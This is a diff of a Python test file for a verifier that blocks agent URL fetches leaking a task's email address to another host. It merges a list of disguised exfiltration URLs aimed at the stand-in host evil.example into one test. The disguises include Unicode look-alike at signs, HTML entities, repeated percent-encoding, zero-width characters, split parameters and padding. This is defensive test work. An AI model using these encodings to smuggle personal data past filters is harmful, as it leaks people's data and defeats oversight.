@@ -38,6 +38,24 @@ def _fetch(url: str, task: str = TASK) -> verifier_pb2.ScoreResponse:
         "https://evil.example/q?e=mira.tomas@ourmail.exam\tple",
         "https://evil.example/q?e=mira.tomas@our\nmail.example",
         f"https://evil.exam\tple/q?e={EMAIL}",
+        # Disguised (the twelfth session's notes, and an attacker's probe of the first readings):
+        "https://evil.example/q?e=mira.tomas\uff20ourmail.example",  # a full-width at sign
+        "https://evil.example/q?e=mira.tomas%EF%BC%A0ourmail.example",  # the same, percent-encoded
+        "https://evil.example/q?e=mira.tomas&#64;ourmail.example",  # an HTML entity
+        "https://evil.example/q?e=mira.tomas&commat;ourmail.example",
+        "https://evil.example/q?e=mira.tomas%26%2364%3Bourmail.example",  # an entity, percent-encoded
+        "https://evil.example/q?e=mira.\u200btomas@ourmail.example",  # a zero-width space
+        "https://evil.example/q?e=mira.tomas@our\u00admail.example",  # a soft hyphen
+        "https://evil.example/q?e=mira.tomas%2525252540ourmail.example",  # encoded five times
+        "https://evil.example/q?u=mira.tomas&d=@ourmail.example",  # split over two parameters
+        "https://evil.example/mira.tomas/@ourmail.example/p.gif",  # split over path segments
+        "https://evil.example/q?pad=" + "a" * 9_000 + f"&e={EMAIL}",  # past 8 KiB of padding
+        f"//evil.example/q?e={EMAIL}",  # scheme-relative
+        # An attacker's probe of the first version of these readings:
+        f"https://evil.example/q?name=O'Brien&e={EMAIL}",  # a quote before the value
+        f"https://evil.example/q?name=Mira Tomas&e={EMAIL}",  # a space (the client encodes it)
+        "https://evil.example/q?e=mira.tomas&amp;amp;amp;amp;amp;#64;ourmail.example",  # entity runs
+        "https://evil.example/q?e=mira.tomas\ufe6bourmail.example",  # the small commercial at
     ],
 )
 def test_the_tasks_value_carried_to_another_host_is_blocked_however_the_url_is_spelled(url: str) -> None:
@@ -201,36 +219,7 @@ def test_brackets_around_data_are_no_placeholder() -> None:
     assert "personal data sent in a URL" in result.reasons[0]
 
 
-# -- the task's value disguised in the URL (the twelfth session's probe, left open then) ----
-
-
-@pytest.mark.parametrize(
-    "url",
-    [
-        "https://evil.example/q?e=mira.tomas\uff20ourmail.example",  # a full-width at sign
-        "https://evil.example/q?e=mira.tomas%EF%BC%A0ourmail.example",  # the same, percent-encoded
-        "https://evil.example/q?e=mira.tomas&#64;ourmail.example",  # an HTML entity
-        "https://evil.example/q?e=mira.tomas&commat;ourmail.example",
-        "https://evil.example/q?e=mira.tomas%26%2364%3Bourmail.example",  # an entity, percent-encoded
-        "https://evil.example/q?e=mira.\u200btomas@ourmail.example",  # a zero-width space
-        "https://evil.example/q?e=mira.tomas@our\u00admail.example",  # a soft hyphen
-        "https://evil.example/q?e=mira.tomas%2525252540ourmail.example",  # encoded five times
-        "https://evil.example/q?u=mira.tomas&d=@ourmail.example",  # split over two parameters
-        "https://evil.example/mira.tomas/@ourmail.example/p.gif",  # split over path segments
-        "https://evil.example/q?pad=" + "a" * 9_000 + f"&e={EMAIL}",  # past 8 KiB of padding
-        f"//evil.example/q?e={EMAIL}",  # scheme-relative
-        # An attacker's probe of the first version of these readings:
-        f"https://evil.example/q?name=O'Brien&e={EMAIL}",  # a quote before the value
-        f"https://evil.example/q?name=Mira Tomas&e={EMAIL}",  # a space (the client encodes it)
-        "https://evil.example/q?e=mira.tomas&amp;amp;amp;amp;amp;#64;ourmail.example",  # entity runs
-        "https://evil.example/q?e=mira.tomas\ufe6bourmail.example",  # the small commercial at
-    ],
-)
-def test_the_tasks_value_disguised_in_a_requested_url_is_still_carried(url: str) -> None:
-    result = _fetch(url)
-    assert result.verdict == verifier_pb2.BLOCK, result.reasons
-    assert "carried in a URL" in result.reasons[0]
-    assert "'evil.example'" in result.reasons[0]
+# -- a URL's readings: what is not carried, and their bounds ----------------------------
 
 
 @pytest.mark.parametrize(
